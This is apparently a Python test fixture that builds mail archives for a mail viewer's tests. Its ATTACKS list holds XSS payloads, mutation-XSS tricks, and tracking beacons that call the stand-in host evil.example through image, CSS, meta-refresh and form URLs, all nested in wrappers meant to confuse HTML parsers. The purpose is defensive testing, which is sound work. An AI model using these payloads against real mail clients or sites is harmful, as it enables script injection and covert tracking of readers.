"""Writes mail archives for the tests: with ordinary and with hostile mails."""

import base64
from pathlib import Path

# A violet PNG of 8 × 8 pixels.
PICTURE = (
    "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAFElEQVR42mPMVb/JgA0wMQxRAAABkAFcIkl2bQAAAABJRU5ErkJggg=="
)

EVIL = "http://evil.example"

# Each attack is the body of a mail. `{evil}` is a host that must never receive a request, and `pwn()` must never run.
ATTACKS = [
    '<script>pwn()</script><img src=x onerror="pwn()">',
    '<img src="{evil}/pixel.gif" width=1 height=1><img srcset="{evil}/a 1x">',
    '<svg onload="pwn()"><script>pwn()</script><image href="{evil}/i"/></svg>',
    '<a href="javascript:pwn()" id=hit>x</a><a href="java\tscript:pwn()">y</a><a href=" &#1;javascript:pwn()">z</a>',
    '<iframe src="{evil}/f"></iframe><iframe srcdoc="<script>parent.pwn()</script>"></iframe><object data="{evil}/o"></object>',
    '<link rel=stylesheet href="{evil}/s.css"><link rel=prefetch href="{evil}/p"><link rel=dns-prefetch href="//evil.example">',
    '<style>@import "{evil}/i.css"; body{{background:url({evil}/b)}} p::before{{content:url({evil}/c)}}</style><p>p</p>',
    '<p style="background:url({evil}/q)">q</p><p style="background:u\\72l({evil}/r)">r</p><p style="background:image-set(\'{evil}/t\' 1x)">t</p>',
    '<meta http-equiv=refresh content="0;url={evil}/m"><base href="{evil}/">',
    '<form action="{evil}/form"><input name=a autofocus onfocus="pwn()"><button formaction="{evil}">b</button></form>',
    '<video src="{evil}/v" autoplay poster="{evil}/w"></video><audio src="{evil}/a" autoplay></audio><source src="{evil}/s">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript><template><img src={evil}/t></template>',
    '<table background="{evil}/tb"><td background="{evil}/td">c</td></table><body background="{evil}/bg" onload="pwn()">',
    '<div style="width:expression(pwn());behavior:url({evil}/x.htc);-moz-binding:url({evil}/x.xml)">e</div>',
    '<a href="data:text/html,<script>pwn()</script>" id=hit>d</a><img src="data:image/svg+xml,<svg onload=pwn()>">',
    '<details open ontoggle="pwn()">o</details><marquee onstart="pwn()">m</marquee><x onclick=pwn() style="display:block">k</x>',
    '<select><iframe></select><img src=x onerror=pwn()></iframe><textarea><img src=x onerror=pwn()></textarea>',
    '<img src="//evil.example/protocol-relative"><img src="HTTP://EVIL.example/upper"><img lowsrc="{evil}/l" dynsrc="{evil}/d">',
    '<svg><style><img src="{evil}/in-style" onerror="pwn()"></style></svg><math href="javascript:pwn()">m</math>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">over everything</div>',
    '<p style="color:red;background-image:url(&quot;{evil}/e1&quot;);font-family:x">f</p><font face="url({evil})">g</font>',
    "<img src='x' style='background:url(\"{evil}/e2\")'><style>*{{list-style:url({evil}/e3);cursor:url({evil}/e4)}}</style>",
    "<!--><img src=x onerror=pwn()>--><!DOCTYPE html [<!ENTITY x SYSTEM '{evil}'>]><?xml-stylesheet href='{evil}/x'?>",
    '<object type="text/x-scriptlet" data="{evil}"></object><embed src="{evil}/e.swf"><applet code=x></applet><frameset onload=pwn()>',
    '<img src="{evil}/%0d%0aX:y"><img src="ftp://evil.example/f"><img src="//evil.example:80/x"><img src="\\\\evil.example\\y">',
]


# The HTML around an attack. Each variant makes a parser build another tree around the same attack.
WRAPPINGS = [
    "{}",
    "<table><tr><td>{}</td></tr></table>",
    "<div><p><b><i>{}</i>",
    "<svg><desc>{}</desc></svg>",
    "<math><mtext>{}</mtext></math>",
    "<noembed>{}</noembed><p>x</p>",
    "<!-- --!>{}<!-- -->",
    "<template>{}</template>",
    "</body></html>{}",
]


def attacks() -> list[str]:
    """More than two hundred bodies of mails: each attack in each wrapping."""
    return [wrapping.format(attack.format(evil=EVIL)) for wrapping in WRAPPINGS for attack in ATTACKS]


def letter(number: int, html: str | None = None, text: str = "Hello from the hills.", name: str | None = None, attached: str = "The quick zebra.") -> bytes:
    head = (
        f"From jane@example.org Fri Feb 22 17:06:23 2008\nMessage-ID: <{number}@test>\nFrom: Jane Doe <jane{number}@example.org>\n"
        f"To: me@example.org\nSubject: =?utf-8?Q?Gr=C3=BC=C3=9Fe?= {number}\nDate: Fri, {1 + number % 28:02} Feb 2008 10:00:00 +0100\n"
        "MIME-Version: 1.0\n"
    )
    if html is None:
        return f"{head}\n{text}\n\n".encode()
    parts = [f"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n{_base64(html.encode())}"]
    parts.append(f"Content-Type: image/png\nContent-ID: <logo@test>\nContent-Transfer-Encoding: base64\n\n{PICTURE}\n")
    if name:
        parts.append(
            f'Content-Type: text/plain; name="{name}"\nContent-Disposition: attachment; filename="{name}"\n\n{attached}\n'
        )
    body = "".join(f"--b\n{part}\n" for part in parts)
    return f"{head}Content-Type: multipart/mixed; boundary=b\n\n{body}--b--\n\n".encode()


def nested(number: int, inner: str) -> bytes:
    """A mail that contains another mail, which has an attachment itself."""
    return (
        f"From jane@example.org Fri Feb 22 17:06:23 2008\nMessage-ID: <{number}@test>\nFrom: Jane Doe <jane@example.org>\n"
        "Subject: Outer\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nSee below.\n"
        f"--b\nContent-Type: message/rfc822\n\nFrom: Tom <tom@example.org>\nSubject: Inner letter\nMIME-Version: 1.0\n"
        f"Content-Type: multipart/mixed; boundary=c\n\n--c\nContent-Type: text/html\n\n{inner}\n--c\n"
        "Content-Disposition: attachment; filename=deep.txt\n\ndeep words\n--c--\n--b--\n\n"
    ).encode()


def attached(number: int, files: dict[str, bytes], text: str = "See below.") -> bytes:
    """A mail with attachments. `files` maps their names to their contents."""
    types = {"txt": "text/plain", "pdf": "application/pdf", "png": "image/png"}
    parts = [f"\n{text}\n"] + [
        f'Content-Type: {types.get(name.rsplit(".")[-1], "application/octet-stream")}; name="{name}"\n'
        f"Content-Disposition: attachment\nContent-Transfer-Encoding: base64\n\n{_base64(content)}"
        for name, content in files.items()
    ]
    body = "".join(f"--b\n{part}\n" for part in parts)
    return (
        f"From jane@example.org Fri Feb 22 17:06:23 2008\nMessage-ID: <{number}@test>\nFrom: Jane Doe <jane@example.org>\n"
        f"Subject: Papers {number}\nDate: Fri, {1 + number % 28:02} Feb 2008 10:00:00 +0100\nMIME-Version: 1.0\n"
        f"Content-Type: multipart/mixed; boundary=b\n\n{body}--b--\n\n"
    ).encode()


def _base64(data: bytes) -> str:
    return base64.encodebytes(data).decode()


def archive(path: Path, letters: list[bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"".join(letters))
    return path
